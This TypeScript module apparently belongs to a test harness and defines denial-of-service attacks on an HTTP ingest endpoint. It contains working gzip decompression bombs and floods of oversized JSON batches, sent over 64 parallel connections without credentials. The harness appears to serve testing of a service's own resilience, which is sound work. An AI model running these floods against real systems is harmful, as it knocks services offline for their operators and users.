/** Requests to HTTP ingest that are small on the way and large in memory. */
import { gzipSync } from "node:zlib";
import type { Attack, Target } from "../attack.ts";
import { open } from "../wire.ts";

const megabyte = 1024 * 1024;
/** At a time. */
const connections = 64;

/** Sends the request so many times, each on a connection of its own, and reads what is answered. */
async function flood(target: Target, body: Buffer, times: number, headers = ""): Promise<number> {
  const head = `POST /ingest/v1/batch HTTP/1.1\r\nHost: x\r\nContent-Length: ${body.length}\r\nConnection: close\r\n${headers}\r\n`;
  let left = times;
  let answered = 0;
  const one = async () => {
    while (left-- > 0) {
      const socket = await open(target, target.ingestPort);
      socket.on("data", () => answered++);
      const closed = new Promise((resolve) => socket.once("close", resolve));
      socket.write(head);
      socket.write(body);
      await closed;
    }
  };
  await Promise.all(Array.from({ length: connections }, one));
  if (answered === 0) throw new Error("nothing was answered");
  return times;
}

export const ingestAttacks: readonly Attack[] = [
  {
    name: "ingest-bombs",
    says: "posts 8 kB of gzip that unpack to 8 MB of nothing, 64 at a time",
    who: "anybody who reaches the ingest port",
    costs: "8 kB each, no credentials",
    ingest: true,
    few: 100,
    many: 500,
    run: (target, times) =>
      flood(target, gzipSync(Buffer.alloc(8 * megabyte, " ")), times, "Content-Encoding: gzip\r\n"),
  },
  {
    name: "ingest-many",
    says: "posts batches of 2.7 million empty objects, packed, 64 at a time",
    who: "anybody who reaches the ingest port",
    costs: "8 kB each, no credentials",
    ingest: true,
    few: 0,
    many: 1_000,
    run: (target, times) =>
      flood(target, gzipSync(Buffer.alloc(8 * megabyte, "{}\n")), times, "Content-Encoding: gzip\r\n"),
  },
  {
    name: "ingest-one",
    says: "posts batches of one message of 8 MB with 2.7 million objects in it, packed, 64 at a time",
    who: "anybody who reaches the ingest port",
    costs: "8 kB each, no credentials",
    ingest: true,
    few: 100,
    many: 1_000,
    run(target, times) {
      const body = Buffer.concat([
        Buffer.from('{"metrics":['),
        Buffer.alloc(7.5 * megabyte, "{},"),
        Buffer.from("{}]}"),
      ]);
      return flood(target, gzipSync(body), times, "Content-Encoding: gzip\r\n");
    },
  },
  {
    name: "ingest-batches",
    says: "posts batches of ten thousand messages of made-up devices, 64 at a time",
    who: "anybody who reaches the ingest port",
    costs: "500 kB each, no credentials",
    ingest: true,
    few: 20,
    many: 100,
    run(target, times) {
      const lines = Array.from({ length: 10_000 }, (_, i) =>
        JSON.stringify({ tenant_id: "acme", device_id: `made-up-${i}`, msg_type: "telemetry", metrics: {} }),
      );
      return flood(target, Buffer.from(lines.join("\n")), times);
    },
  },
];
